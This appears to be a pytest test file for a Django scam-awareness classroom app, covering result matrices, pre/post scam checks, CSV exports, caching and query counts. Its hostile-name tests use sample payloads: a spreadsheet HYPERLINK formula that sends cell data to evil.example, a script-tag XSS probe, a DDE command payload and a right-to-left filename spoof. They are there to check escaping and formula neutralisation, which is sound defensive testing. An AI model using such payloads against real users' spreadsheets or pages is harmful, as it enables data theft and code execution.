"""Class results: the matrix, the before/after check, per-scenario distributions, one
student's answers, the CSV exports, query counts at two sizes, and hostile display names."""

import csv
import io
import re
import unicodedata

import pytest
from django.core.cache import cache
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from awareness.models import User
from quizzes.check.selectors import classroom_check_scores
from quizzes.check.services import check_session_start
from quizzes.classes.csv_export import safe_cell
from quizzes.classes.results import sort_rows
from quizzes.classes.selectors import classroom_results, classroom_results_stamp
from quizzes.models import Answer, Attempt, CheckSession, Membership
from quizzes.scenarios.publishing import scenario_publish, scenario_replace_steps
from tests.factories import (
    BRANCHING_STEPS,
    add_student,
    assign,
    bulk_attempts,
    bulk_checks,
    make_branching_scenario,
    make_check_items,
    make_class,
    make_student,
    make_teacher,
    play,
    take_check,
    tomorrow,
)

pytestmark = pytest.mark.django_db


def without_tokens(content: bytes) -> str:
    """The page without its CSRF tokens (masked differently in every response)."""
    return re.sub(r'name="csrfmiddlewaretoken" value="[^"]+"', "", content.decode("utf-8-sig"))


def read_csv(response) -> list[list[str]]:
    body = response.content
    assert body.startswith("\ufeff".encode()), "CSV must start with a UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.fixture
def lesson():
    """A class of four on one scenario: safe, partly harmed, harmed (twice), not started."""
    classroom = make_class(name="7B")
    scenario = make_branching_scenario("Likes for money")
    assign(classroom, scenario)
    students = {
        name: add_student(classroom, display_name=name) for name in ("Ana", "Bo", "Cy", "Di")
    }
    play(scenario, students["Ana"], "safe")
    play(scenario, students["Bo"], "partly-harmed")
    play(scenario, students["Cy"], "harmed")
    play(scenario, students["Cy"], "safe")  # a retry: the first finished attempt counts
    play(scenario, students["Di"], "in-progress")
    return classroom, scenario, students


def test_the_matrix_shows_status_outcome_and_safe_choice_rate(client, lesson):
    classroom, scenario, students = lesson
    client.force_login(classroom.teacher)
    response = client.get(classroom.get_absolute_url())
    results = response.context["results"]
    cells = {row.label: row.cells[0] for row in results.rows}
    assert {k: (c.status, c.outcome, c.safe_percent) for k, c in cells.items()} == {
        "Ana": ("completed", "safe", 100),
        "Bo": ("completed", "partly-harmed", 50),
        "Cy": ("completed", "harmed", 0),
        "Di": ("in-progress", "", 0),
    }
    assert cells["Cy"].attempts == 2
    page = response.content.decode()
    assert "Partly harmed" in page and "(2 attempts)" in page and "In progress" in page


def test_a_student_who_has_not_started_shows_as_not_started(client, lesson):
    classroom, scenario, students = lesson
    add_student(classroom, display_name="Eve")
    client.force_login(classroom.teacher)
    results = client.get(classroom.get_absolute_url()).context["results"]
    [eve] = [r for r in results.rows if r.label == "Eve"]
    assert eve.cells[0].status == "not-started" and eve.safe_rate is None
    assert "Not started" in client.get(classroom.get_absolute_url()).content.decode()


def test_per_scenario_completion_outcomes_and_choice_distribution(client, lesson):
    classroom, scenario, students = lesson
    client.force_login(classroom.teacher)
    response = client.get(classroom.get_absolute_url())
    [stats] = response.context["results"].scenarios
    assert (stats.students, stats.completed, stats.in_progress, stats.not_started) == (4, 3, 1, 0)
    assert dict(stats.outcomes) == {"safe": 1, "partly-harmed": 1, "harmed": 1}
    d1, s1, d2 = stats.steps
    assert [(o.key, o.count) for o in d1.options] == [("a", 1), ("b", 2), ("c", 1)]
    assert d1.answered == 4
    # "b" (Bo, Di) is the most-picked unsafe choice; Cy's retry does not count twice.
    assert d1.top_unsafe.key == "b" and d1.top_unsafe.text == "Tell me more!"
    assert [(o.key, o.count) for o in d2.options] == [("a", 1), ("b", 1)]
    assert s1.kind == "spot" and [(o.key, o.count) for o in s1.options] == [("f1", 1), ("n1", 0)]
    page = response.content.decode()
    assert "Most-picked unsafe choice" in page
    assert "Tell me more!" in page and "answered by 4 students" in page
    # Text equivalents of the bars for screen readers: the counts are in the page as text,
    # the SVG drawings are hidden from assistive technology.
    assert "Safe: 1" in page and "Harmed: 1" in page and "In progress: 1" in page
    assert page.count('<svg class="dist-bar"') == 3 + 2 + 2
    for svg in page.split("<svg")[1:]:
        assert 'aria-hidden="true"' in svg.split(">")[0]


def test_no_unsafe_choice_is_pointed_out_when_nobody_picked_one(client):
    classroom = make_class()
    scenario = make_branching_scenario()
    assign(classroom, scenario)
    play(scenario, add_student(classroom, display_name="Ana"), "safe")
    client.force_login(classroom.teacher)
    response = client.get(classroom.get_absolute_url())
    assert response.context["results"].scenarios[0].steps[0].top_unsafe is None
    assert "Most-picked unsafe choice" not in response.content.decode()


def test_answers_on_an_older_version_are_labelled_from_that_version(client):
    classroom = make_class()
    scenario = make_branching_scenario()
    assign(classroom, scenario)
    student = add_student(classroom, display_name="Ana")
    play(scenario, student, "harmed")  # picked "c" on version 1
    steps = [dict(step) for step in BRANCHING_STEPS]
    steps[1] = {**steps[1], "choices": [c for c in steps[1]["choices"] if c["key"] != "c"]}
    scenario_replace_steps(scenario=scenario, steps=steps)
    scenario_publish(scenario=scenario)
    client.force_login(classroom.teacher)
    [stats] = client.get(classroom.get_absolute_url()).context["results"].scenarios
    d1 = stats.steps[0]
    assert [(o.key, o.text, o.count) for o in d1.options] == [
        ("a", "Ignore and block.", 0),
        ("b", "Tell me more!", 0),
        ("c", "Send my ID card.", 1),
    ]


def test_sorting_the_matrix(lesson):
    classroom, scenario, students = lesson
    results = classroom_results(classroom)
    column = f"a{results.assignments[0].pk}"
    assert sort_rows(results, "-name") == ("name", True)
    assert [r.label for r in results.rows] == ["Di", "Cy", "Bo", "Ana"]
    sort_rows(results, column)
    assert [r.label for r in results.rows] == ["Di", "Cy", "Bo", "Ana"]
    sort_rows(results, f"-{column}")
    assert [r.label for r in results.rows] == ["Ana", "Bo", "Cy", "Di"]
    sort_rows(results, "rate")
    assert [r.label for r in results.rows][-1] == "Ana"
    sort_rows(results, "-completed")
    assert [r.label for r in results.rows][-1] == "Di"
    assert sort_rows(results, "nonsense") == ("name", False)


@pytest.mark.parametrize("sort", ["name", "-name", "rate", "-completed", "a1", "-a999", "💥", ""])
def test_sort_links_mark_the_sorted_column(client, lesson, sort):
    classroom = lesson[0]
    client.force_login(classroom.teacher)
    response = client.get(classroom.get_absolute_url(), {"sort": sort})
    assert response.status_code == 200
    assert response.content.decode().count("aria-sort=") == 1


def test_the_student_page_lists_each_attempt_and_answer(client, lesson):
    classroom, scenario, students = lesson
    client.force_login(classroom.teacher)
    url = reverse("classes:student", args=[classroom.pk, students["Cy"].pk])
    response = client.get(url)
    page = response.content.decode()
    attempts = response.context["attempts"]
    assert [(d.number, d.attempt.outcome) for d in attempts] == [(1, "harmed"), (2, "safe")]
    assert [a.text for a in attempts[0].answers] == ["Send my ID card.", "Pay the deposit."]
    assert [a.text for a in attempts[1].answers] == ["Ignore and block.", "Pay 500 now"]
    assert "She asks for a 500 deposit. What now?" in page
    assert "Send my ID card." in page and "attempt 2" in page


def test_the_student_page_leaves_out_unassigned_scenarios(client, lesson):
    classroom, scenario, students = lesson
    private = make_branching_scenario("Played at home")
    play(private, students["Ana"], "harmed")
    client.force_login(classroom.teacher)
    url = reverse("classes:student", args=[classroom.pk, students["Ana"].pk])
    assert "Played at home" not in client.get(url).content.decode()
    csv_text = client.get(reverse("classes:export-answers-csv", args=[classroom.pk]))
    assert "Played at home" not in csv_text.content.decode("utf-8-sig")


def test_a_student_of_another_class_has_no_page_here(client, lesson):
    classroom = lesson[0]
    outsider = add_student(make_class())
    client.force_login(classroom.teacher)
    url = reverse("classes:student", args=[classroom.pk, outsider.pk])
    assert client.get(url).status_code == 404


# --- the spot-the-scam check ----------------------------------------------------------------


def text_of(html: str) -> str:
    return " ".join(re.sub(r"<[^>]+>", " ", html).split())


def check_table(page: str) -> dict[str, str]:
    """The rows of the check table as text, by their first cell (the student, or "Class
    average")."""
    section = page.split('<section class="mb-4" aria-labelledby="check-title"', 1)[1]
    section = section.split("</section>", 1)[0]
    rows = {}
    for tr in re.findall(r"<tr>(.*?)</tr>", section, flags=re.S):
        head = re.search(r'<th scope="row">(.*?)</th>', tr, flags=re.S)
        if head:
            rows[text_of(head.group(1))] = text_of(tr[head.end() :])
    return rows


@pytest.fixture
def checks(lesson):
    """Ana took the check before (7 of 10 right) and after (10 of 10); Bo only before (8 of
    10); Di is halfway through her first one; Cy has not started."""
    classroom, scenario, students = lesson
    make_check_items()
    take_check(students["Ana"], missed=1, false_alarms=2)
    take_check(students["Ana"])
    take_check(students["Bo"], missed=2)
    take_check(students["Di"], finish=False)
    return lesson


def test_each_students_check_before_and_after_is_shown_to_the_teacher(client, checks):
    classroom, scenario, students = checks
    client.force_login(classroom.teacher)
    response = client.get(classroom.get_absolute_url())
    rows = {row.label: row for row in response.context["results"].rows}
    assert (rows["Ana"].check_pre.accuracy, rows["Ana"].check_post.accuracy) == (70, 100)
    assert rows["Ana"].check_change == 30
    table = check_table(response.content.decode())
    assert table["Ana"] == (
        "70% right 4 of 5 scams caught 2 of 5 real messages flagged as scams "
        "100% right 5 of 5 scams caught 0 of 5 real messages flagged as scams "
        "+30 points"
    )
    assert table["Bo"] == (
        "80% right 3 of 5 scams caught 0 of 5 real messages flagged as scams "
        "not taken – needs both checks"
    )
    # Averages over the students who took each check; the change over those who took both.
    assert table["Class average"] == (
        "75% right 3.5 of 5 scams caught 1 of 5 real messages flagged as scams "
        "2 students took it "
        "100% right 5 of 5 scams caught 0 of 5 real messages flagged as scams "
        "1 student took it "
        "+30 points 1 student took both"
    )
    # The bars only repeat the text, hidden from assistive technology.
    assert 'class="rate-bar" aria-hidden="true"><span class="rate-fill rate-70">' in (
        response.content.decode()
    )


def test_a_student_without_a_finished_check_shows_not_taken(client, checks):
    classroom, scenario, students = checks
    client.force_login(classroom.teacher)
    table = check_table(client.get(classroom.get_absolute_url()).content.decode())
    assert table["Cy"] == "not taken not taken – needs both checks"
    assert table["Di"] == "not taken not taken – needs both checks"  # still halfway through


def test_a_class_where_nobody_has_taken_the_check_says_so(client, lesson):
    classroom = lesson[0]
    client.force_login(classroom.teacher)
    page = client.get(classroom.get_absolute_url()).content.decode()
    assert "No student has taken the check yet." in page
    assert check_table(page) == {}  # no table of "not taken" rows
    assert 'class="table table-sm align-middle check-class"' not in page


def test_the_latest_finished_check_of_each_kind_counts(client, checks):
    classroom, scenario, students = checks
    take_check(students["Ana"], missed=5)  # a second "after" check, worse: the latest counts
    take_check(students["Ana"], finish=False)  # unfinished: does not count
    visitor = check_session_start(user=None, visitor_id="v-1", language="en")
    assert visitor.kind == "pre"
    scores = classroom_check_scores([s.pk for s in students.values()])
    ana = scores[students["Ana"].pk]
    assert (ana["pre"].hits, ana["pre"].false_alarms, ana["pre"].accuracy) == (4, 2, 70)
    assert (ana["post"].hits, ana["post"].false_alarms, ana["post"].accuracy) == (0, 0, 50)
    assert scores[students["Cy"].pk] == {"pre": None, "post": None}
    assert scores[students["Di"].pk] == {"pre": None, "post": None}
    client.force_login(classroom.teacher)
    table = check_table(client.get(classroom.get_absolute_url()).content.decode())
    assert table["Ana"].startswith("70% right") and table["Ana"].endswith("−20 points")


def test_check_scores_of_many_students_take_one_query(django_assert_num_queries):
    classroom = make_class()
    students = [add_student(classroom, display_name=f"S{i}") for i in range(12)]
    bulk_checks(students)
    with django_assert_num_queries(1):
        scores = classroom_check_scores([s.pk for s in students])
    assert sum(v["pre"] is not None for v in scores.values()) == 12
    assert sum(v["post"] is not None for v in scores.values()) == 6  # the rest unfinished
    assert {v["pre"].accuracy for v in scores.values()} == {100, 90, 80, 70}


def test_checks_of_students_outside_the_class_are_not_shown(client, checks):
    classroom, scenario, students = checks
    other = make_class(classroom.teacher, name="8C")  # the same teacher's other class
    zed = add_student(other, display_name="Zed")
    take_check(zed, missed=5, false_alarms=5)
    stranger = make_student(display_name="Yan")  # in nobody's class
    take_check(stranger, missed=5)
    Membership.objects.filter(classroom=classroom, student=students["Bo"]).delete()  # left
    client.force_login(classroom.teacher)
    table = check_table(client.get(classroom.get_absolute_url()).content.decode())
    assert set(table) == {"Ana", "Cy", "Di", "Class average"}
    assert table["Class average"].startswith("70% right 4 of 5 scams caught")
    assert "1 student took it" in table["Class average"]
    other_table = check_table(client.get(other.get_absolute_url()).content.decode())
    assert set(other_table) == {"Zed", "Class average"}
    assert other_table["Zed"].startswith("0% right 0 of 5 scams caught 5 of 5 real")


# --- CSV -----------------------------------------------------------------------------------


def test_results_csv_has_one_row_per_student_and_scenario(client, lesson):
    classroom, scenario, students = lesson
    assign(classroom, make_branching_scenario("Fake refund"))
    client.force_login(classroom.teacher)
    response = client.get(reverse("classes:export-csv", args=[classroom.pk]))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    rows = read_csv(response)
    header, body = rows[0], rows[1:]
    assert header[:6] == ["Student", "Scenario", "Language", "Due date", "Status", "Outcome"]
    assert len(body) == 4 * 2
    by_key = {(r[0], r[1]): r for r in body}
    assert by_key[("Bo", "Likes for money")][4:9] == ["Finished", "Partly harmed", "1", "2", "50"]
    assert by_key[("Cy", "Likes for money")][11] == "2"  # attempts
    assert by_key[("Ana", "Fake refund")][4] == "Not started"


CHECK_HEADER = [
    "Check before: answers right (%)",
    "Check before: scams caught",
    "Check before: false alarms",
    "Check after: answers right (%)",
    "Check after: scams caught",
    "Check after: false alarms",
]


def test_results_csv_repeats_each_students_check_scores_on_their_rows(client, checks):
    classroom, scenario, students = checks
    assign(classroom, make_branching_scenario("Fake refund"))
    client.force_login(classroom.teacher)
    rows = read_csv(client.get(reverse("classes:export-csv", args=[classroom.pk])))
    header, body = rows[0], rows[1:]
    assert len(header) == 14 + 6 and header[14:] == CHECK_HEADER
    assert header[:14] == [  # the existing columns are unchanged
        "Student",
        "Scenario",
        "Language",
        "Due date",
        "Status",
        "Outcome",
        "Safe choices",
        "Decisions",
        "Safe-choice rate (%)",
        "Red flags found",
        "Red flags to find",
        "Attempts",
        "Started",
        "Finished",
    ]
    checks_of = {}
    for row in body:
        assert len(row) == 20
        checks_of.setdefault(row[0], set()).add(tuple(row[14:]))
    assert checks_of == {  # one value per student: the same on each of their rows
        "Ana": {("70", "4", "2", "100", "5", "0")},
        "Bo": {("80", "3", "0", "", "", "")},
        "Cy": {("", "", "", "", "", "")},
        "Di": {("", "", "", "", "", "")},
    }


def test_answers_csv_has_one_row_per_answer(client, lesson):
    classroom, scenario, students = lesson
    client.force_login(classroom.teacher)
    response = client.get(reverse("classes:export-answers-csv", args=[classroom.pk]))
    rows = read_csv(response)
    body = rows[1:]
    assert len(body) == Answer.objects.count() == 9
    cy = [r for r in body if r[0] == "Cy"]
    assert [(r[2], r[5], r[7], r[8]) for r in cy] == [
        ("1", "d1", "Send my ID card.", "no"),
        ("1", "d2", "Pay the deposit.", "no"),
        ("2", "d1", "Ignore and block.", "yes"),
        ("2", "s1", "Pay 500 now", "yes"),
    ]


def test_chinese_names_survive_the_csv(client):
    classroom = make_class(name="七年级二班")
    scenario = make_branching_scenario("兼职刷单", language="zh-hans")
    assign(classroom, scenario)
    play(scenario, add_student(classroom, display_name="王小明"), "safe")
    client.force_login(classroom.teacher)
    rows = read_csv(client.get(reverse("classes:export-csv", args=[classroom.pk])))
    assert rows[1][:2] == ["王小明", "兼职刷单"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\u200f=1", "'\u200f=1"),  # a right-to-left mark in front
        ("\u202e=1", "'=1"),  # an override character is dropped, then neutralised
        ("Ana", "Ana"),
        ("a=b", "a=b"),
        ("王小明", "王小明"),
        (5, "5"),
        (None, ""),
    ],
)
def test_cells_are_neutralised_against_formula_injection(value, expected):
    assert safe_cell(value) == expected


@given(st.text())
def test_no_text_comes_out_of_a_cell_as_a_formula(text):
    cell = safe_cell(text)
    visible = cell.lstrip()
    visible = "".join(ch for ch in visible if unicodedata.category(ch) != "Cf")
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert not visible.startswith(("=", "+", "-", "@")) or cell.startswith("'")
    assert "\u202e" not in cell


# --- hostile names -------------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "<script>alert(1)</script>",
    "\u202eevil\u202c gnp.exe",
    "@cmd|' /C calc'!A0",
]


def test_hostile_display_names_are_escaped_on_the_page_and_neutralised_in_the_csv(client):
    classroom = make_class(name="<b>class</b>")
    scenario = make_branching_scenario("=1+1 scenario")
    assign(classroom, scenario)
    for name in HOSTILE:
        play(scenario, add_student(classroom, display_name=name), "harmed")
    client.force_login(classroom.teacher)

    page = client.get(classroom.get_absolute_url()).content.decode()
    assert "<script>alert(1)</script>" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<b>class</b>" not in page and "&lt;b&gt;class&lt;/b&gt;" in page
    assert "<bdi>\u202eevil\u202c gnp.exe</bdi>" in page  # isolated from the text around it

    for url in ("classes:export-csv", "classes:export-answers-csv"):
        rows = read_csv(client.get(reverse(url, args=[classroom.pk])))
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (url, cell)
                assert "\u202e" not in cell
        names = {row[0] for row in rows[1:]}
        assert "'" + HOSTILE[0] in names and "'" + HOSTILE[3] in names
        assert {row[1] for row in rows[1:]} == {"'=1+1 scenario"}


def test_a_5000_character_display_name_is_refused_without_an_error_page(client):
    classroom = make_class()
    student = make_student()
    client.force_login(student)
    for name in ("=" + "A" * 4999, "<script>" * 625):
        response = client.post(
            reverse("classes:join"), {"code": classroom.join_code, "display_name": name}
        )
        assert response.status_code == 400
        assert "at most 60 characters" in response.content.decode()
    student.refresh_from_db()
    assert student.display_name == ""


def test_long_names_wrap_instead_of_breaking_the_layout(client):
    classroom = make_class()
    assign(classroom, make_branching_scenario())
    add_student(classroom, display_name="W" * 60)
    client.force_login(classroom.teacher)
    page = client.get(classroom.get_absolute_url()).content.decode()
    assert 'class="student-name"><bdi>' + "W" * 60 in page  # .student-name wraps anywhere


def test_usernames_of_other_classes_are_never_shown(client):
    classroom = make_class()
    scenario = make_branching_scenario()
    assign(classroom, scenario)
    other_teacher = make_teacher()
    pupil = make_student("otter-2345", created_by=other_teacher)  # no display name
    add_student(classroom, pupil)
    mine = make_student("panda-7788", created_by=classroom.teacher)
    add_student(classroom, mine)
    play(scenario, pupil, "safe")
    client.force_login(classroom.teacher)
    for url in (
        classroom.get_absolute_url(),
        reverse("classes:export-csv", args=[classroom.pk]),
        reverse("classes:export-answers-csv", args=[classroom.pk]),
        reverse("classes:student", args=[classroom.pk, pupil.pk]),
    ):
        body = client.get(url).content.decode("utf-8-sig")
        assert "otter-2345" not in body, url
    page = client.get(classroom.get_absolute_url()).content.decode()
    assert "Student 1" in page  # shown by number instead
    assert "panda-7788" in page  # the teacher created that account and printed its slip


# --- query counts --------------------------------------------------------------------------


def _class_of(n_students: int, n_scenarios: int):
    classroom = make_class()
    scenarios = [make_branching_scenario() for _ in range(n_scenarios)]
    for scenario in scenarios:
        assign(classroom, scenario)
    students = [add_student(classroom, display_name=f"S{i}") for i in range(n_students)]
    bulk_attempts(scenarios, students)
    bulk_checks(students)
    return classroom


@pytest.mark.parametrize(
    ("url_name", "cold", "warm"),
    [
        # user, class, the cache stamp (students' names; assignments; the count and last
        # change of the class's attempts; the count and last finish of its students'
        # checks: four queries); on a cache miss also memberships with students,
        # assignments with scenarios, attempts, the students' latest before/after check
        # scores (one aggregate), the versions involved and the answers that count.
        ("classes:detail", 12, 6),
        # user, class; memberships+students, assignments+scenarios, attempts, check scores.
        ("classes:export-csv", 6, 6),
        # user, class; memberships, assignments, attempts, versions, answers.
        ("classes:export-answers-csv", 7, 7),
    ],
)
def test_results_pages_use_the_same_queries_at_any_size(
    client, django_assert_num_queries, url_name, cold, warm
):
    small = _class_of(1, 1)
    big = _class_of(40, 20)
    assert Attempt.objects.filter(scenario__assignments__classroom=big).count() > 800
    for classroom in (small, big):
        client.force_login(classroom.teacher)
        url = reverse(url_name, args=[classroom.pk])
        cache.clear()
        client.get(reverse("classes:list"))  # the session back in the cache
        with django_assert_num_queries(cold):
            cold_response = client.get(url)
        with django_assert_num_queries(warm):
            warm_response = client.get(url)
        assert cold_response.status_code == warm_response.status_code == 200
        assert without_tokens(cold_response.content) == without_tokens(warm_response.content)
    rows = read_csv(client.get(reverse("classes:export-csv", args=[big.pk])))
    assert len(rows) == 1 + 40 * 20
    # The check columns are filled for everyone (all took "before"), "after" for every other.
    assert all(row[14] for row in rows[1:])
    assert sum(bool(row[17]) for row in rows[1:]) == 20 * 20


def test_the_student_page_uses_the_same_queries_at_any_size(client, django_assert_num_queries):
    small = _class_of(1, 1)
    big = _class_of(40, 20)
    for classroom in (small, big):
        client.force_login(classroom.teacher)
        student = classroom.memberships.first().student
        url = reverse("classes:student", args=[classroom.pk, student.pk])
        client.get(url)
        # user, class; memberships, assignments, attempts (the student's row, without the
        # check scores, which this page does not show); the student's attempts with
        # versions; their answers.
        with django_assert_num_queries(7):
            assert client.get(url).status_code == 200


# --- the cached results --------------------------------------------------------------------


def matrix_text(client, classroom) -> str:
    return without_tokens(client.get(classroom.get_absolute_url()).content)


def test_the_cached_results_change_as_soon_as_their_inputs_do(client, lesson):
    from quizzes.classes.services import assignment_save

    classroom, scenario, students = lesson
    client.force_login(classroom.teacher)
    eve = add_student(classroom, display_name="Eve")
    page = matrix_text(client, classroom)
    assert "Eve" in page and matrix_text(client, classroom) == page  # served from the cache

    play(scenario, eve, "harmed")  # a student answers
    page = matrix_text(client, classroom)
    assert client.get(classroom.get_absolute_url()).context["results"] is None  # cached
    assert [r.cells[0].outcome for r in classroom_results(classroom).rows if r.label == "Eve"] == [
        "harmed"
    ]
    eve_row = next(line for line in page.split("<tr>") if "Eve</bdi>" in line)
    assert "Harmed" in eve_row

    User.objects.filter(pk=eve.pk).update(display_name="Evelyn")  # renamed elsewhere
    assert "Evelyn" in matrix_text(client, classroom)

    assignment_save(
        classroom=classroom, teacher=classroom.teacher, scenario=scenario, due_date=tomorrow()
    )
    assert "due " in matrix_text(client, classroom)

    Membership.objects.filter(student=eve).delete()  # removed by any means
    assert "Evelyn" not in matrix_text(client, classroom)

    steps = [dict(step) for step in BRANCHING_STEPS]
    steps[1] = {**steps[1], "prompt": "A brand-new question?"}
    scenario_replace_steps(scenario=scenario, steps=steps)
    scenario_publish(scenario=scenario)  # republished
    assert "A brand-new question?" in matrix_text(client, classroom)


def test_a_newly_finished_check_changes_the_cached_results(client, lesson):
    classroom, scenario, students = lesson
    make_check_items()
    client.force_login(classroom.teacher)
    matrix_text(client, classroom)
    assert client.get(classroom.get_absolute_url()).context["results"] is None  # cached
    before = classroom_results_stamp(classroom)

    session = take_check(students["Ana"], missed=1, finish=False)  # halfway: nothing to show
    assert classroom_results_stamp(classroom) == before
    assert check_table(matrix_text(client, classroom)) == {}

    session = take_check(students["Ana"], missed=1)  # the same check, now finished
    assert session.finished_at is not None and session.kind == "pre"
    stamp = classroom_results_stamp(classroom)
    assert stamp != before
    assert check_table(matrix_text(client, classroom))["Ana"].startswith("90% right")

    take_check(students["Ana"], false_alarms=1)  # the "after" check
    assert classroom_results_stamp(classroom) != stamp
    assert check_table(matrix_text(client, classroom))["Ana"].endswith(
        "90% right 5 of 5 scams caught 1 of 5 real messages flagged as scams no change"
    )

    stamp = classroom_results_stamp(classroom)
    CheckSession.objects.filter(user=students["Ana"], kind="post").delete()  # by any means
    assert classroom_results_stamp(classroom) != stamp
    assert "not taken" in check_table(matrix_text(client, classroom))["Ana"]


def test_each_language_and_sort_has_its_own_cached_page(client, lesson):
    classroom = lesson[0]
    client.force_login(classroom.teacher)
    by_name = matrix_text(client, classroom)
    reverse_page = client.get(classroom.get_absolute_url(), {"sort": "-name"}).content.decode()
    assert by_name != reverse_page
    client.cookies.load({"django_language": "zh-hans"})
    chinese = matrix_text(client, classroom)
    assert '<html lang="zh-hans">' in chinese and chinese != by_name


def test_a_retry_finished_after_an_abandoned_attempt_counts_as_finished(client):
    from quizzes.classes.assigned import student_assignments

    classroom = make_class()
    scenario = make_branching_scenario("Likes for money")
    assign(classroom, scenario)
    student = add_student(classroom, display_name="Ana")
    play(scenario, student, "in-progress")  # left halfway
    play(scenario, student, "safe")  # started again and finished
    play(scenario, student, "started")  # and once more, not yet answered
    results = classroom_results(classroom)
    cell = results.rows[0].cells[0]
    assert (cell.status, cell.outcome, cell.attempts) == ("completed", "safe", 3)
    stats = results.scenarios[0]
    assert (stats.completed, stats.in_progress, stats.not_started) == (1, 0, 0)
    assert [(a.status, a.outcome) for a in student_assignments(student)] == [("completed", "safe")]
